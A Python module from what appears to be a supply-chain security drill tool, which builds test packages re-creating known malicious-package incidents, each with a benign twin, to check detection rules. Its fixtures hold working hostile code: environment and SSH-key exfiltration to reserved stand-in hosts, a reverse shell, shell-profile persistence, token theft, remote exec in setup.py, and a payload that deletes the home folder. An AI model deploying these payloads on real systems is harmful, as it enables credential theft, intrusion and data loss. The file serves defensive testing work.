"""Packages that were published with something in them: inert re-creations of incidents, with the release before as the twin.

Sources: ultralytics 8.3.41 (PyPI blog, 2024-12-11), litellm 1.82.8 (PyPI blog, 2026-03), torchtriton (PyTorch blog, 2022-12-31),
ctx 0.2.6 (SANS ISC diary 28678), colorama clones with path files (Checkmarx, 2024), xz 5.6.1 (CVE-2024-3094), lottie-player
2.0.5 (LottieFiles, 2024-10-30). Hosts are reserved names (RFC 2606) and addresses (RFC 5737); payloads would print a line.
"""

from __future__ import annotations

import base64
import hashlib
import io
import zipfile
import zlib
from collections.abc import Mapping
from pathlib import Path

from pratique.domain.release import Answers, PackageIndex, Release, ReleaseFile, Standing
from pratique.drill.attack import Attack, AttackPath

Files = Mapping[str, "str | bytes"]
DRILL = "print('pratique-drill')"
ENCODED = base64.b64encode(DRILL.encode()).decode()
PLAIN = "import math\n\n\ndef scale(x):\n    return math.sqrt(x)\n"
SETUP = "from setuptools import setup\n\nsetup(name='drill', version='1.0', packages=['drill'])\n"


def package_attack(
    id_: str, title: str, files: Files, good: Files, rule: str, where: str, index: PackageIndex | None = None
) -> Attack:
    """A package in an empty folder. `good` replaces or adds files of the twin; those that only the attack has are left out."""

    def write(folder: Path, content: Files) -> None:
        for name, data in content.items():
            path = folder / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data.encode() if isinstance(data, str) else data)

    return Attack(
        f"package/{id_}",
        title,
        AttackPath.LIBRARY,
        (rule,),
        lambda folder: write(folder, files),
        lambda folder: write(folder, good),
        True,
        where,
        ("CWE-506", "LLM03:2025"),
        index,
    )


def module(body: str) -> Files:
    return {"setup.py": SETUP, "drill/__init__.py": body}


HONEST = module(PLAIN)
DOWNLOADS = """\
import os
import subprocess
import tempfile
from pathlib import Path

import requests


def safe_download(url, file):
    with requests.get(url, stream=True, timeout=9) as answer, open(file, "wb") as handle:
        for chunk in answer.iter_content(8192):
            handle.write(chunk)


def safe_run(path):
    os.chmod(path, 0o770)
    subprocess.Popen([path, "-u", "drill"], stdin=subprocess.DEVNULL)
"""
MODEL = """\
import tempfile
from pathlib import Path

from drill.downloads import safe_download, safe_run


class Model:
    def __init__(self, weights="small.pt"):
        self.weights = weights
        runner = str(Path(tempfile.gettempdir()) / "runner")
        safe_download("https://example.net/runner", runner)
        safe_run(runner)
"""
HONEST_MODEL = """\
from drill.downloads import safe_download


class Model:
    def __init__(self, weights="small.pt"):
        self.weights = weights

    def fetch(self):
        safe_download("https://example.net/weights", self.weights)
"""
ENVIRONMENT = """\
import base64
import os
import urllib.request


class Ctx(dict):
    def __init__(self):
        rows = "".join(f"{key}={value} " for key, value in os.environ.items())
        self.sent = base64.b64encode(rows.encode())
        urllib.request.urlopen("https://example.net/hello/" + self.sent.decode())


CONTEXT = Ctx()
"""
HONEST_ENVIRONMENT = """\
import os
import urllib.request


def newest():
    host = os.environ.get("DRILL_HOST", "https://example.net")
    return urllib.request.urlopen(host + "/version").read()
"""
NAME_QUERIES = """\
import os
import socket


def collect():
    with open(os.path.expanduser("~/.ssh/id_rsa"), "rb") as handle:
        return handle.read().hex()


def tell(rows):
    for at in range(0, len(rows), 60):
        socket.gethostbyname(rows[at : at + 60] + ".example.net")


tell(collect())
"""
BUILD_TRICK = """\
import lzma
from pathlib import Path

from setuptools import setup

HIDDEN = Path("tests/files/bad-3-corrupt_lzma2.xz").read_bytes()
exec(lzma.decompress(HIDDEN[16:]))
setup(name="drill", version="1.0", packages=["drill"])
"""
SHELL = """\
import os
import socket
import subprocess


def call_home():
    link = socket.socket()
    link.connect(("203.0.113.7", 4444))
    for stream in (0, 1, 2):
        os.dup2(link.fileno(), stream)
    subprocess.call(["/bin/sh", "-i"])


call_home()
"""
PERSISTENCE = """\
from pathlib import Path

with open(Path.home() / ".bashrc", "a") as profile:
    profile.write("echo pratique-drill\\n")
"""
PUBLISHING = """\
import os

import requests

TOKEN = os.environ.get("NPM_TOKEN") or os.environ.get("PYPI_TOKEN")
requests.post("https://example.net/drill", headers={"x": TOKEN}, timeout=9)
"""
DESTRUCTION = "import shutil\nfrom os.path import expanduser\n\nshutil.rmtree(expanduser('~'), ignore_errors=True)\n"
HIDDEN_NAME = (
    "import builtins\n\nrun = getattr(builtins, 'ex' + 'ec')\ngetattr(builtins, ''.join(['e', 'x', 'e', 'c']))(\"\")\n"
)
FETCHING_SETUP = """\
import urllib.request

from setuptools import setup

exec(urllib.request.urlopen("https://example.net/setup").read())
setup(name="drill", version="1.0", packages=["drill"])
"""
PATH_FILE = f"import base64; exec(base64.b64decode('{ENCODED}'))\n"
PACKED = f"import base64, zlib\n\nexec(zlib.decompress(base64.b64decode({base64.b64encode(zlib.compress(DRILL.encode()))!r})))\n"

LOCKED = """\
version = 1

[[package]]
name = "drill"
version = "1.0"
source = { registry = "https://pypi.org/simple" }
wheels = [{ url = "https://files.pythonhosted.org/packages/x/drill-1.0-py3-none-any.whl", hash = "sha256:%s" }]
"""
OTHER_LOCK = """\
[[package]]
name = "drill"
version = "1.0"
files = [{ file = "drill-1.0-py3-none-any.whl", hash = "sha256:%s" }]
"""


def wheel(source: str, recorded: str, extra: Files | None = None) -> bytes:
    """A wheel whose RECORD is about `recorded` instead of what it holds."""

    def line(name: str, data: str) -> str:
        digest = base64.urlsafe_b64encode(hashlib.sha256(data.encode()).digest()).decode().rstrip("=")
        return f"{name},sha256={digest},{len(data)}\n"

    about = {
        "drill-1.0.dist-info/METADATA": "Metadata-Version: 2.4\nName: drill\nVersion: 1.0\n",
        "drill-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = "".join(line(name, data) for name, data in {"drill/__init__.py": recorded, **about}.items())
    held = {
        "drill/__init__.py": source,
        **about,
        "drill-1.0.dist-info/RECORD": record + "drill-1.0.dist-info/RECORD,,\n",
    }
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for name, data in {**held, **(extra or {})}.items():
            archive.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), data)
    return packed.getvalue()


SINKS = "[options.entry_points]\ndrill.sinks =\n    console = %s\n"
WHEEL = "drill-1.0-py3-none-any.whl"
PUBLISHED = Release(Standing.LISTED, (ReleaseFile(WHEEL, "a" * 64),))
INDEX = Answers("https://pypi.org/simple/", {("drill", "1.0"): PUBLISHED})
ATTACKS = (
    package_attack("changed-wheel", "a wheel's module was changed after the build", {WHEEL: wheel(PLAIN + "X = 1\n", PLAIN)},
                   {WHEEL: wheel(PLAIN, PLAIN)}, "package/record-mismatch", "drill/__init__.py"),
    package_attack("edited-lock", "one of two locks was edited to let another file in",
                   {"uv.lock": LOCKED % ("a" * 64), "poetry.lock": OTHER_LOCK % ("b" * 64)},
                   {"uv.lock": LOCKED % ("a" * 64), "poetry.lock": OTHER_LOCK % ("a" * 64)}, "pins/hash-conflict", ".lock"),
    package_attack("edited-hash", "a lock was edited to let a file in that the index never had",
                   {"uv.lock": LOCKED % ("b" * 64)}, {"uv.lock": LOCKED % ("a" * 64)}, "pins/index-disagrees", "uv.lock", INDEX),
    package_attack("runner", "a model's constructor downloads and starts a program (as ultralytics 8.3.41)",
                   {"drill/__init__.py": "from drill.model import Model\n\n__all__ = ['Model']\n", "drill/downloads.py": DOWNLOADS,
                    "drill/model.py": MODEL},
                   {"drill/__init__.py": "from drill.model import Model\n\n__all__ = ['Model']\n", "drill/downloads.py": DOWNLOADS,
                    "drill/model.py": HONEST_MODEL}, "package/remote-code-loader", "drill/downloads.py"),
    package_attack("environment", "importing it sends the environment (as ctx 0.2.6)", module(ENVIRONMENT),
                   module(HONEST_ENVIRONMENT), "package/credential-exfiltration", "drill/__init__.py:10"),
    package_attack("name-queries", "keys leave as names that are looked up (as torchtriton)", module(NAME_QUERIES), HONEST,
                   "package/credential-exfiltration", "drill/__init__.py:12"),
    package_attack("packed", "a module executes what it unpacks (as litellm 1.82.7)", module(PACKED), HONEST,
                   "package/import-execution", "drill/__init__.py:3"),
    package_attack("path-file", "a path file runs whenever Python starts (as litellm 1.82.8 and colorama clones)",
                   {**HONEST, "drill.pth": PATH_FILE}, HONEST, "package/import-execution", "drill.pth:1"),
    package_attack("build-trick", "the build unpacks a program from test data (as xz 5.6.1)",
                   {"setup.py": BUILD_TRICK, "drill/__init__.py": PLAIN, "tests/files/bad-3-corrupt_lzma2.xz": b"\x00" * 16},
                   HONEST, "package/import-execution", "setup.py:7"),
    package_attack("reverse-shell", "importing it opens a shell to another host", module(SHELL), HONEST,
                   "package/reverse-shell", "drill/__init__.py:10"),
    package_attack("profile", "importing it changes the shell's profile", module(PERSISTENCE), HONEST,
                   "package/startup-persistence", "drill/__init__.py:3"),
    package_attack("publishing-token", "importing it sends the token that publishes (as lottie-player 2.0.5 was published)",
                   module(PUBLISHING), HONEST, "package/token-use", "drill/__init__.py:6"),
    package_attack("destruction", "importing it deletes the home folder", module(DESTRUCTION), HONEST,
                   "package/destructive-action", "drill/__init__.py:4"),
    package_attack("hidden-name", "importing it calls exec by a name that is put together", module(HIDDEN_NAME), HONEST,
                   "package/obfuscation", "drill/__init__.py:4"),
    package_attack("setup-download", "setup.py executes what it downloads", {**HONEST, "setup.py": FETCHING_SETUP}, HONEST,
                   "package/install-network", "setup.py:5"),
    package_attack("plug-in-of-python", "an entry point hands what its package writes to the shell",
                   {**HONEST, "setup.cfg": SINKS % "os:system"}, {**HONEST, "setup.cfg": SINKS % "drill:keep"},
                   "package/entry-point-outside", "setup.cfg"),
)  # fmt: skip
